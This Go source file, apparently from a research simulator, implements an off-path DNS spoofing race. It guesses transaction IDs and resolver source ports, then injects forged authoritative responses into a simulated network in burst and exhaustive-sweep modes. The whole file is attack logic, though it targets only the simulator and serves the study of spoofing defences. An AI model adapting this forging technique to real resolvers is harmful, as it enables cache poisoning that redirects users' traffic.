package attack

import (
	"time"

	"chronosntp/internal/dnswire"
	"chronosntp/internal/simnet"
)

// RaceSpooferConfig parameterises the classic off-path spoofed-response
// race: blast forged responses at the victim resolver, guessing the
// transaction ID (and source port unless the resolver leaks or fixes it),
// hoping one lands before the genuine answer.
type RaceSpooferConfig struct {
	VictimResolver simnet.IP   // resolver under attack
	SpoofedServer  simnet.Addr // nameserver being impersonated
	QName          string      // question being raced
	Forge          *ResponseForge

	// Ports are the candidate resolver source ports. A resolver using
	// predictable sequential ephemeral ports needs only a few; a
	// port-randomising resolver forces all 64k.
	Ports []uint16
}

// txidGuesses is the number of sequential transaction IDs a Burst tries,
// starting at a random point: ≈1.6 % of the space per port guess.
const txidGuesses = 1024

func (c RaceSpooferConfig) withDefaults() RaceSpooferConfig {
	if len(c.Ports) == 0 {
		c.Ports = []uint16{49152}
	}
	return c
}

// RaceSpoofer mounts bursts of forged responses.
type RaceSpoofer struct {
	net *simnet.Network
	cfg RaceSpooferConfig

	// Injected counts forged responses sent.
	Injected uint64
}

// NewRaceSpoofer builds a spoofer.
func NewRaceSpoofer(net *simnet.Network, cfg RaceSpooferConfig) *RaceSpoofer {
	return &RaceSpoofer{net: net, cfg: cfg.withDefaults()}
}

// Burst injects one burst of forged responses spread over spread of
// simulated time (keeping them inside the resolver's response window).
func (r *RaceSpoofer) Burst(spread time.Duration) error {
	return r.burst(spread, txidGuesses)
}

// burst injects forged responses for guesses sequential TXIDs at each
// candidate port.
func (r *RaceSpoofer) burst(spread time.Duration, guesses int) error {
	base := uint16(r.net.Rand().Intn(1 << 16))
	total := guesses * len(r.cfg.Ports)
	if total == 0 {
		return nil
	}
	step := spread / time.Duration(total)
	i := 0
	for g := 0; g < guesses; g++ {
		txid := base + uint16(g)
		query := dnswire.NewQuery(txid, r.cfg.QName, dnswire.TypeA)
		query.RecursionDesired = false
		resp, err := r.cfg.Forge.Response(query)
		if err != nil {
			return err
		}
		resp.Authoritative = true
		b, err := resp.Encode()
		if err != nil {
			return err
		}
		for _, port := range r.cfg.Ports {
			datagram := simnet.EncodeUDP(
				r.cfg.SpoofedServer,
				simnet.Addr{IP: r.cfg.VictimResolver, Port: port}, b)
			r.net.Inject(simnet.Packet{
				Src: r.cfg.SpoofedServer.IP, Dst: r.cfg.VictimResolver,
				Proto: simnet.ProtoUDP, ID: uint16(i), Payload: datagram,
			}, time.Duration(i)*step)
			r.Injected++
			i++
		}
	}
	return nil
}

// FullSweep injects a forged response for every possible TXID at each
// candidate port — the exhaustive variant usable when the genuine response
// can be delayed or the port is known. It reports the number injected.
func (r *RaceSpoofer) FullSweep(spread time.Duration) (uint64, error) {
	before := r.Injected
	err := r.burst(spread, 1<<16)
	return r.Injected - before, err
}
